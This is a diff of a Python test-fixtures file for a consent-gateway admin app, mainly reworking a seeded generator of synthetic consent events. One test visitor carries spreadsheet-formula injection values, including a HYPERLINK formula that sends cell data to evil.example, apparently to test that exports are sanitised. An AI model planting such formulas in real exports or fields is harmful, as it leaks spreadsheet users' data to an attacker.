@@ -4,7 +4,11 @@ and the admin app mounted where the gateway mounts it (``/_consent/admin``)."""
 from __future__ import annotations
 
 import asyncio
+import base64
+import hashlib
+import random
 import re
+import socket
 from collections.abc import Iterator
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
@@ -31,17 +35,20 @@ API_TOKEN = "tok_0123456789abcdef0123456789abcdef"
 #: 2026-03-10 12:00 UTC: the tests' "now".
 NOW = datetime(2026, 3, 10, 12, 0, tzinfo=UTC).timestamp()
 VISITOR = "c0ffee00-visitor-with-history"
-INJECTION_UA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+INJECTION_UA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
-def scrypt_hash(password: str) -> str:
-    import base64
-    import hashlib
+def free_port() -> int:
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        return int(sock.getsockname()[1])
 
+
+def scrypt_hash(password: str, n: int = 2**10) -> str:
+    """A hash in the documented ``scrypt$n$r$p$salt$hash`` form, made with hashlib alone."""
     salt = b"0123456789abcdef"
-    key = hashlib.scrypt(password.encode(), salt=salt, n=2**10, r=8, p=1, dklen=32)
-    b64 = lambda b: base64.b64encode(b).decode().rstrip("=")  # noqa: E731
-    return f"scrypt${2**10}$8$1${b64(salt)}${b64(key)}"
+    key = hashlib.scrypt(password.encode(), salt=salt, n=n, r=8, p=1, dklen=32, maxmem=256 * n * 8 + 2**20)
+    return f"scrypt${n}$8$1${base64.b64encode(salt).decode()}${base64.b64encode(key).decode()}"
 
 
 class Clock:
@@ -58,58 +65,83 @@ class Clock:
 
 
 def make_events() -> list[ConsentEvent]:
-    """Three weeks of varied events, chained like the gateway chains them."""
+    """Three weeks of varied events (seeded, so every call gives the same), chained like the gateway does."""
+    rng = random.Random(7)
     chain = EventChain("test-instance")
     events = []
-    start = datetime(2026, 2, 20, 9, 0, tzinfo=UTC)
-    countries = ["FR", "DE", "FR", "US", "BE", "FR", "ES"]
-    browsers = [("Firefox", "desktop"), ("Chrome", "desktop"), ("Mobile Safari", "mobile"), ("Chrome Mobile", "mobile"),
-                ("Samsung Internet", "tablet")]
-    for i in range(60):
-        when = start + timedelta(hours=8 * i)
-        browser, device = browsers[i % len(browsers)]
-        granted = i % 3 != 0
-        events.append(chain.append(ConsentEvent(
-            event_id=f"ev-{i:04d}",
-            consent_id=f"visitor-{i:04d}",
-            action="consent-given",
-            categories={"necessary": True, "analytics": granted, "marketing": i % 4 == 0, "preferences": i % 2 == 0},
-            vendors={},
-            policy_version="2" if i >= 40 else "1",
-            banner_version="b1",
-            timestamp_ms=int(when.timestamp() * 1000),
-            page_path="/pricing",
-            ip=f"203.0.113.{i % 250}",
-            user_agent=f"Mozilla/5.0 test {browser}",
-            browser_family=browser,
-            browser_version="120.0",
-            device_type=device,
-            country=countries[i % len(countries)],
-            is_eu=countries[i % len(countries)] != "US",
-            region_rule="opt-in",
-        )))
+    start = datetime(2026, 2, 17, 0, 0, tzinfo=UTC)
+    countries = ["FR", "FR", "FR", "DE", "DE", "BE", "ES", "US", "IT"]
+    browsers = [
+        ("Chrome", "desktop"),
+        ("Firefox", "desktop"),
+        ("Mobile Safari", "mobile"),
+        ("Chrome Mobile", "mobile"),
+        ("Samsung Internet", "tablet"),
+        ("Edge", "desktop"),
+    ]
+    for i in range(400):
+        when = start + timedelta(minutes=72 * i + rng.randrange(60))
+        browser, device = browsers[rng.randrange(len(browsers))]
+        country = countries[rng.randrange(len(countries))]
+        # A policy change on 3 March: the new banner asks more clearly, and fewer visitors accept marketing.
+        new_policy = when >= datetime(2026, 3, 3, tzinfo=UTC)
+        events.append(
+            chain.append(
+                ConsentEvent(
+                    event_id=f"ev-{i:04d}",
+                    consent_id=f"visitor-{i:04d}",
+                    action=rng.choice(["consent-given"] * 8 + ["consent-updated", "gpc-applied"]),
+                    categories={
+                        "necessary": True,
+                        "analytics": rng.random() < (0.62 if new_policy else 0.7),
+                        "marketing": rng.random() < (0.22 if new_policy else 0.35),
+                        "preferences": rng.random() < 0.48,
+                    },
+                    vendors={},
+                    policy_version="2" if new_policy else "1",
+                    banner_version="b1",
+                    timestamp_ms=int(when.timestamp() * 1000),
+                    page_path="/pricing",
+                    ip=f"203.0.113.{i % 250}",
+                    user_agent=f"Mozilla/5.0 test {browser}",
+                    browser_family=browser,
+                    browser_version="120.0",
+                    device_type=device,
+                    country=country,
+                    is_eu=country != "US",
+                    region_rule="opt-in",
+                )
+            )
+        )
     # One visitor with a history, whose user agent and page try to plant spreadsheet formulas.
-    for j, (action, analytics) in enumerate([("consent-given", True), ("consent-updated", False),
-                                             ("consent-withdrawn", False)]):
-        events.append(chain.append(ConsentEvent(
-            event_id=f"ev-visitor-{j}",
-            consent_id=VISITOR,
-            action=action,
-            categories={"necessary": True, "analytics": analytics, "marketing": False, "preferences": False},
-            vendors={"youtube": analytics},
-            policy_version="2",
-            banner_version="b1",
-            timestamp_ms=int((datetime(2026, 3, 9, 10, 0, tzinfo=UTC) + timedelta(minutes=j)).timestamp() * 1000),
-            page_path="+SUM(1,2)" if j == 0 else "/account",
-            referrer_host="@evil.example",
-            ip="198.51.100.0",
-            user_agent=INJECTION_UA,
-            browser_family="-Firefox",
-            device_type="desktop",
-            country="FR",
-            is_eu=True,
-            region_rule="opt-in",
-        )))
+    for j, (action, analytics) in enumerate(
+        [("consent-given", True), ("consent-updated", False), ("consent-withdrawn", False)]
+    ):
+        events.append(
+            chain.append(
+                ConsentEvent(
+                    event_id=f"ev-visitor-{j}",
+                    consent_id=VISITOR,
+                    action=action,
+                    categories={"necessary": True, "analytics": analytics, "marketing": False, "preferences": False},
+                    vendors={"youtube": analytics},
+                    policy_version="2",
+                    banner_version="b1",
+                    timestamp_ms=int(
+                        (datetime(2026, 3, 9, 10, 0, tzinfo=UTC) + timedelta(minutes=j)).timestamp() * 1000
+                    ),
+                    page_path="+SUM(1,2)" if j == 0 else "/account",
+                    referrer_host="@evil.example",
+                    ip="198.51.100.0",
+                    user_agent=INJECTION_UA,
+                    browser_family="-Firefox",
+                    device_type="desktop",
+                    country="FR",
+                    is_eu=True,
+                    region_rule="opt-in",
+                )
+            )
+        )
     return events
 
 
@@ -150,8 +182,9 @@ def mounted(app: object) -> Starlette:
 
 @pytest.fixture
 def admin_app(admin_config: Config, consent_log: ConsentLog, clock: Clock) -> Starlette:
-    app = build_admin_app(admin_config, consent_log, SECRET_KEYS, clock=clock,
-                          environ={"CONSENT_GATEWAY_ADMIN_TOKENS": API_TOKEN})
+    app = build_admin_app(
+        admin_config, consent_log, SECRET_KEYS, clock=clock, environ={"CONSENT_GATEWAY_ADMIN_TOKENS": API_TOKEN}
+    )
     return mounted(app)
 
 
